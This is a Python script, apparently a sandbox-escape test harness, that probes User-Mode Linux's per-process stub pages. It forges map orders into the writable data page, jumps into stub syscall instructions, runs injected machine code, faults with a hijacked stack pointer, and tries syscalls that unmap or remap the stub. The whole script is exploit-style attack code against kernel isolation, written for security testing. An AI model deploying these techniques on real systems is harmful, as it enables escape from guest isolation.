# Under User-Mode Linux the guest's kernel has three pages in every process, at the top: a page of its code and two
# of data, through which it has its orders carried out there and hears of faults. Any process can write the data.
# Elsewhere the same addresses are a stack, or nothing.
import ctypes
import os
import struct
from attack import breach_if, in_child, machine_code, syscall

CODE = 0x7FFFFFFFF000 - 3 * 4096
DATA = CODE + 4096
END = DATA + 2 * 4096
# Where forged orders map a guest's memory: nothing of a program's is there.
AT = 0x20_0000_0000
LENGTH = 1 << 20
DESCRIPTORS = range(3, 16)


def forge(orders):
    """A list of orders as the kernel leaves it: error, count, then address, length, offset, descriptor,
    protection and kind (1 maps, 2 unmaps)."""
    text = struct.pack("<qi4x", 0, len(orders)) + b"".join(struct.pack("<QQQiiI4x", *order) for order in orders)
    ctypes.memmove(DATA, text, len(text))


def forge_maps():
    forge([(AT + fd * LENGTH, LENGTH, 0, fd, 7, 1) for fd in DESCRIPTORS])


def fault():
    bytearray(8 << 20)


def forge_and_look(fd):
    # In one process, for what a forged order maps is there alone; reading it ends it unless there is memory.
    forge_maps()
    fault()
    seen = ctypes.string_at(AT + fd * LENGTH, 16)
    breach_if(f"memory by a forged order with descriptor {fd}", True, seen)


def forge_and_jump(at):
    forge_maps()
    ctypes.CFUNCTYPE(ctypes.c_long)(CODE + at)()


def junk_and_fault(byte):
    ctypes.memset(DATA, byte, END - DATA)
    fault()
    os.getpid()


def fault_on(stack):
    # mov rsp, STACK; mov rax, [0]: the host's frame of the fault goes where the stack is.
    forge_maps()
    machine_code("48bc" + stack.to_bytes(8, "little").hex() + "488b042500000000")()


def take(number, *args):
    try:
        syscall(number, *args)
        done = "done"
    except OSError as error:
        done = error.strerror
    fault()
    os.getpid()
    return done


def run_data():
    # mov eax, 39; syscall; ret
    ctypes.memmove(DATA, bytes.fromhex("b8270000000f05c3"), 8)
    return ctypes.CFUNCTYPE(ctypes.c_long)(DATA)()


if in_child("read the code", lambda: len(ctypes.string_at(CODE, 4096))) == 0:
    code = ctypes.string_at(CODE, 4096)
    in_child("write the code", lambda: ctypes.memset(CODE, 0x90, 1))
    breach_if("the code changed", ctypes.string_at(CODE, 4096) != code)
    entries = {at for at in range(4095) if code[at : at + 2] == b"\x0f\x05"} | set(range(0, 2048, 256))
    for at in sorted(entries):
        in_child(f"forge and jump to {at}", forge_and_jump, at)
for fd in DESCRIPTORS:
    in_child(f"forge, fault and look for descriptor {fd}'s", forge_and_look, fd)
for byte in (0, 0x41, 0xFF):
    in_child(f"fill the data with {byte:#x} and fault", junk_and_fault, byte)
for stack in (CODE, CODE + 8, DATA, DATA + 8, DATA + 4096, END - 8, END, END + 8, 8, 1 << 63):
    in_child(f"fault with the stack at {stack:#x}", fault_on, stack)
in_child("run the data", run_data)
for what, number, more in (
    ("unmap", 11, ()),
    ("protect", 10, (7,)),
    ("map over", 9, (7, 0x32, -1, 0)),
    ("move", 25, (4096, 3, AT)),
    ("give back", 28, (4,)),
):
    for at, length in ((CODE, 4096), (DATA, 8192), (CODE - 4096, 16384)):
        in_child(f"{what} {length} at {at:#x}", take, number, at, length, *more)
print("tried them all")
